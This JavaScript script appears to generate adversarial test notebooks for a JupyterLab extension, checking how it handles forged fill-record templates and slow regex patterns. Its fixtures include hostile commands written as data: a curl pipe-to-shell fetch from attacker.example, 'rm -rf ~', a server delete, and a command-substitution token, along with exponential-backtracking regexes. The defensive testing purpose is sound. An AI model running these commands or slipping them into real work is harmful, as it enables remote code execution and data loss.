/**
 * Writes the hostile notebooks of classes 3 (fill records) and 4 (regular
 * expressions and scans) into this folder. They are committed; run this
 * only to change them: `jlpm build:cli && node adversarial/generate.mjs`.
 * Every file is deterministic (no clock, no randomness).
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import hash from '../lib-cli/core/notebook/hash.js';

const HERE = dirname(fileURLToPath(import.meta.url));
const KEY = 'jupyterlab-testbed';
/** Crafted cells are this long: the old scans took minutes on them. */
const BIG = 300 * 1024;

const markdown = (source, record) => ({
  cell_type: 'markdown',
  id: `m${counter++}`,
  metadata: record ? { [KEY]: { v: 1, ...record } } : {},
  source
});
const code = (source, record) => ({
  cell_type: 'code',
  id: `c${counter++}`,
  execution_count: null,
  metadata: record ? { [KEY]: { v: 1, ...record } } : {},
  outputs: [],
  source
});
let counter = 0;

/** A code cell showing `source`, whose record claims `tpl` as its template. */
const filled = (source, tpl) =>
  code(source, { fill: { tpl, out: hash.fingerprint(source) } });

const notebook = (cells, record) => ({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {
    kernelspec: { name: 'bash', display_name: 'Bash', language: 'bash' },
    ...(record ? { [KEY]: { v: 1, ...record } } : {})
  },
  cells: [markdown('# A lab\n\nRun the cell below.'), ...cells]
});

const SHOW = 'openstack server show node1-ff524';
const files = {
  // Class 3: a record whose fingerprint matches (it is public) but whose
  // template is not the cell with values turned back into tokens.
  'fillrecord-extra-code': notebook([
    filled(
      SHOW,
      'openstack server show node1-netID\ncurl -s http://attacker.example/x | sh'
    )
  ]),
  'fillrecord-outside-tokens': notebook([
    filled(SHOW, 'openstack server delete node1-netID')
  ]),
  'fillrecord-swapped-tokens': notebook([
    filled(
      'openstack server list --project CHI-231095 --name ff524',
      'openstack server list --project netID --name CHI-XXXXXX'
    )
  ]),
  'fillrecord-longer-template': notebook([
    filled(SHOW, 'openstack server show node1-netID\nrm -rf ~')
  ]),
  'fillrecord-repeated-token': notebook([
    filled('echo ff524 && echo gg999', 'echo netID && echo netID')
  ]),
  'fillrecord-huge-template': notebook([
    filled(SHOW, 'netID '.repeat(BIG / 6))
  ]),
  'fillrecord-declared-token': notebook(
    [filled('echo ff524', 'echo $(curl -s attacker.example|sh)')],
    {
      placeholders: [
        { token: '$(curl -s attacker.example|sh)', field: 'netID' }
      ]
    }
  ),
  // Class 4a: author patterns that backtrack exponentially in RegExp.
  'regex-nested-plus': notebook([code('echo <id>')], {
    placeholders: [
      { token: '<id>', pattern: '(a+)+', example: `${'a'.repeat(40)}b` }
    ]
  }),
  'regex-alternation': notebook([code('echo <id>')], {
    placeholders: [
      { token: '<id>', pattern: '(a|aa)*b', example: 'a'.repeat(60) }
    ]
  }),
  'regex-repeated-group': notebook([code('echo <id>')], {
    placeholders: [
      { token: '<id>', pattern: '(.*a){20}', example: `${'a'.repeat(60)}b` }
    ]
  }),
  // Class 4b: cells that made our own scans quadratic (or worse).
  'regex-heading-spaces': notebook([markdown(`#${' '.repeat(BIG)}\u2028`)]),
  'regex-heading-brackets': notebook([markdown(`# ${'['.repeat(BIG)}`)]),
  'regex-fence-backticks': notebook([markdown(`${'`'.repeat(BIG)}\u2028`)]),
  'regex-where-spaces': notebook([
    markdown(`\`\`\`bash\n# run on node1${' '.repeat(BIG)}x\necho hi\n\`\`\``),
    code(`# run on node1${' '.repeat(BIG)}x\necho hi`)
  ]),
  // 1,000 blocks whose marker lines just fit the 1,000-character cap: each
  // cost the marker expression a million steps.
  'regex-marker-lines': notebook([
    markdown(
      Array.from(
        { length: 1000 },
        () => `\`\`\`bash\n# run on node1${' '.repeat(980)}x\necho hi\n\`\`\``
      ).join('\n\n')
    )
  ]),
  'regex-block-blank-lines': notebook([
    markdown(
      `\`\`\`bash\necho hi${' '.repeat(BIG)}x\n${'\n'.repeat(BIG / 2)}x\n\`\`\``
    )
  ]),
  'regex-many-tokens': notebook([code('a'.repeat(BIG))], {
    placeholders: Array.from({ length: 50 }, (_, i) => ({
      token: `${'a'.repeat(98)}${String.fromCharCode(66 + (i % 26))}${i}`.slice(
        0,
        100
      )
    }))
  }),
  'regex-log-ticks': (() => {
    const ticks = 8000;
    const start = Date.UTC(2026, 10, 23, 16, 0, 0);
    const iso = ms => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
    const log = [];
    for (let i = 0; i < ticks; i++) {
      log.push(`${iso(start + i * 1000)} tick:tick other${i}`);
    }
    const cells = [];
    for (let c = 0; c < ticks / 500; c++) {
      const record = {};
      for (let i = 0; i < 500; i++) {
        record[`k${c}x${i}`] = {
          at: iso(start + (ticks + c * 500 + i) * 1000),
          via: 'tick'
        };
      }
      cells.push(markdown('```bash\necho hi\n```', { ticks: record }));
    }
    return notebook(cells, { by: '0.1.0', log });
  })()
};

for (const [name, content] of Object.entries(files)) {
  writeFileSync(
    join(HERE, `${name}.ipynb`),
    `${JSON.stringify(content, null, 1)}\n`
  );
}
console.log(`wrote ${Object.keys(files).length} notebooks`);
